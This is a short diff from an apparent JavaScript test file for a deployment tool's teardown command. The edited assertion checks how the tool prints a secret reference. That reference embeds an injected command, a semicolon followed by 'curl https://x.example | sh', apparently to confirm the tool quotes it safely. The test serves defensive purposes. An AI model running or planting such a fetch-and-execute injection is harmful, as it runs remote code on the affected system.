@@ -449,7 +449,7 @@ describe('import-blocks and teardown', () => {
     const changed = stand.read('deployment.json').replace('aws-sm:nymgate/prod/calendar/key', reference);
     stand.write('deployment.json', changed);
     const { out } = await stand.run('teardown', '--deployment', stand.file('deployment.json'));
-    expect(out).toContain("$ rm -- '/keys/a b#c; curl https://x.example | sh'\n");
+    expect(out).toContain("$ remove '/keys/a b#c; curl https://x.example | sh', the Secret");
   });
 
   test.each(['Payroll', 'Nymgate prod - outlook-cal'])(
